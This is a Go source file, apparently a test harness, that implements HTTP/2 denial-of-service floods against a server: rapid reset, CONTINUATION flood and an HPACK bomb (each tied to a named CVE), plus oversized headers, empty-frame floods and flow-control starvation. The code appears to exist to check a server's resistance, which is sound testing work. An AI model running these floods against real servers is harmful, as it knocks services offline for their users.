package main

import (
	"bytes"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// framer writes frames to c, and reads and drops what comes.
func (f *flooder) framer(c net.Conn) *http2.Framer {
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	go func() { _, _ = io.Copy(io.Discard, c) }() // until c is closed
	fr := http2.NewFramer(c, nil)
	fr.AllowIllegalWrites = true
	return fr
}

// fields are those of a request, in HPACK.
func (f *flooder) fields(method, path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: f.host}, {Name: ":path", Value: path},
	}, more...) {
		_ = encoder.WriteField(field) // to memory
	}
	return block.Bytes()
}

// many writes frames until one can't be written, and holds the connection then.
func (f *flooder) many(c net.Conn, n int, write func(fr *http2.Framer, i int) error) {
	fr := f.framer(c)
	err := fr.WriteSettings()
	for i := 0; i < n && err == nil; i++ {
		err = write(fr, i)
	}
	if err != nil {
		f.refuse()
		return
	}
	time.Sleep(f.hold)
	if fr.WritePing(false, [8]byte{1}) != nil || fr.WritePing(false, [8]byte{2}) != nil {
		f.refuse()
	}
}

func stream(i int) uint32 { return uint32(2*i + 1) }

// headers writes a block, cut as frames must be.
func headers(fr *http2.Framer, id uint32, block []byte, end bool) error {
	piece := block[:min(len(block), 16<<10)]
	rest := block[len(piece):]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: piece, EndStream: end, EndHeaders: len(rest) == 0}); err != nil {
		return err
	}
	for len(rest) > 0 {
		piece = rest[:min(len(rest), 16<<10)]
		rest = rest[len(piece):]
		if err := fr.WriteContinuation(id, len(rest) == 0, piece); err != nil {
			return err
		}
	}
	return nil
}

// streams asks for what never comes, with as long a head as is let through, as often as may be.
func (f *flooder) streams(c net.Conn) {
	block := f.fields("GET", "/never", hpack.HeaderField{Name: "a", Value: strings.Repeat("b", 60<<10)})
	f.many(c, 250, func(fr *http2.Framer, i int) error { return headers(fr, stream(i), block, true) })
}

// hpackBomb names one long field of the dynamic table again and again (CVE-2016-6581).
func (f *flooder) hpackBomb(c net.Conn) {
	const indexed, first, literalIndexed = 0x80, 62, 0x40
	value := strings.Repeat("b", 4000)
	begin := f.plainFields()
	begin = append(hpackInteger(append(begin, literalIndexed, 1, 'a'), 7, len(value)), value...)
	bomb := append(f.plainFields(), bytes.Repeat([]byte{indexed | first}, 14<<10)...)
	f.many(c, f.size, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return headers(fr, stream(i), begin, true)
		}
		return headers(fr, stream(i), bomb, true)
	})
}

// plainFields are those of a request that leave the dynamic table as it is.
func (f *flooder) plainFields() []byte { return f.fields("GET", "/never")[1:] }

// hpackInteger appends n as RFC 7541 section 5.1 says, with a prefix of bits.
func hpackInteger(b []byte, bits, n int) []byte {
	limit := 1<<bits - 1
	b, n = append(b, byte(limit)), n-limit
	for ; n >= 128; n /= 128 {
		b = append(b, byte(n%128)|128)
	}
	return append(b, byte(n))
}

// continuation never ends a head (CVE-2023-45288).
func (f *flooder) continuation(c net.Conn) {
	piece := bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 3000)
	f.many(c, f.size, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.fields("GET", "/never")})
		}
		return fr.WriteContinuation(1, false, piece)
	})
}

// rapidReset asks and takes it back (CVE-2023-44487).
func (f *flooder) rapidReset(c net.Conn) {
	block := f.fields("GET", "/never")
	f.many(c, 100*f.size, func(fr *http2.Framer, i int) error {
		if err := headers(fr, stream(i), block, true); err != nil {
			return err
		}
		return fr.WriteRSTStream(stream(i), http2.ErrCodeCancel)
	})
}

// frames sends one kind of frame without end, and reads no answer.
func (f *flooder) frames(write func(*http2.Framer) error) {
	f.each(f.few(), f.secure2, func(c net.Conn) {
		_ = c.SetWriteDeadline(time.Now().Add(f.hold))
		fr := http2.NewFramer(c, nil)
		err := fr.WriteSettings()
		for range 1000 * f.size {
			if err != nil {
				f.refuse()
				return
			}
			err = write(fr)
		}
		time.Sleep(f.hold)
	})
}

func (f *flooder) emptyData(c net.Conn) {
	f.many(c, 1000*f.size, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return headers(fr, 1, f.fields("POST", "/swallow"), false)
		}
		return fr.WriteData(1, false, nil)
	})
}

// shutWindow asks for long answers and lets nothing of them come.
func (f *flooder) shutWindow(c net.Conn) {
	f.many(c, 250, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		return headers(fr, stream(i), f.fields("GET", "/long"), true)
	})
}

// uploads sends all that the windows allow to an upstream that reads nothing.
func (f *flooder) uploads(c net.Conn) {
	piece := make([]byte, 16<<10)
	f.many(c, 250, func(fr *http2.Framer, i int) error {
		if err := headers(fr, stream(i), f.fields("POST", "/never"), false); err != nil {
			return err
		}
		for range 2 {
			if err := fr.WriteData(stream(i), false, piece); err != nil {
				return err
			}
		}
		return nil
	})
}
